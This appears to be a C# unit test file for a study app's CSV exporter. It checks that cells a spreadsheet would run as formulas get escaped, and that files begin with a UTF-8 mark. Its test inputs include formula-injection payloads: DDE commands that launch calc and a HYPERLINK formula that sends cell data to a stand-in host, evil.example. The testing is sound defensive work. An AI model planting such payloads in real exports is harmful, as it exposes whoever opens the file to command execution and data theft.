using System.Globalization;
using System.Text;
using CsCheck;
using CsvHelper;
using StudyBot.Core.Exports;

namespace StudyBot.Core.Tests.Exports;

/// <summary>What members write goes into cells, and whoever opens the file must be safe from it.</summary>
public sealed class CsvTableTests
{
    private static readonly char[] Starters = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

    private static readonly string[] Pieces = ["=", "+", "-", "@", "\t", "\r", "\n", "\"", ",", ";", "'", "＝", " "];

    [Theory]
    [InlineData("=cmd|'/C calc'!A0")]
    [InlineData("+1+1")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")")]
    [InlineData("＝1+1")]
    public void A_Cell_That_A_Spreadsheet_Would_Run_Becomes_Text(string cell)
    {
        Assert.Equal("'" + cell, Assert.Single(Read(Write([cell]))[0]));
    }

    [Fact]
    public void No_Cell_Of_Any_Text_Begins_A_Formula_Or_Breaks_Out_Of_Its_Cell()
    {
        var piece = Gen.OneOf(Gen.Int[0, Pieces.Length - 1].Select(at => Pieces[at]), Gen.String[0, 5]);
        var cell = piece.Array[0, 6].Select(string.Concat);

        cell.Array[2, 5].Sample(cells =>
        {
            var read = Assert.Single(Read(Write(cells)));
            Assert.Equal(cells.Length, read.Length);
            foreach (var (written, found) in cells.Zip(read))
            {
                // Whole, and at most marked as text.
                Assert.True(found == written || found == "'" + written, $"{written} became {found}");
                Assert.False(found.Length > 0 && Starters.Contains(found[0]), found);
            }
        });
    }

    [Fact]
    public void Numbers_And_Words_Stay_As_They_Are()
    {
        Assert.Equal(["12", "0.5", "yes", "", "O'Brien, Ada", "--rm is a flag"], Read(Write([12, 0.5m, true, null, "O'Brien, Ada", "--rm is a flag"]))[0].Select(cell => cell.TrimStart('\'')));
    }

    [Fact]
    public void A_File_Begins_With_The_Mark_By_Which_Spreadsheets_Know_Utf8()
    {
        using var output = new MemoryStream();
        using (var table = new CsvTable(output, mark: true))
        {
            table.Begin(["name"]);
            table.Row(["Zoë"]);
            table.End();
        }

        Assert.Equal([0xEF, 0xBB, 0xBF], output.ToArray()[..3]);
        Assert.EndsWith("\"Zoë\"\r\n", Encoding.UTF8.GetString(output.ToArray()), StringComparison.Ordinal);
    }

    private static string Write(params object?[] cells)
    {
        using var output = new MemoryStream();
        using (var table = new CsvTable(output, mark: false))
        {
            table.Row(cells);
            table.End();
        }

        return Encoding.UTF8.GetString(output.ToArray());
    }

    private static List<string[]> Read(string csv)
    {
        using var parser = new CsvParser(new StringReader(csv), CultureInfo.InvariantCulture);
        var rows = new List<string[]>();
        while (parser.Read())
        {
            rows.Add(parser.Record!);
        }

        return rows;
    }
}
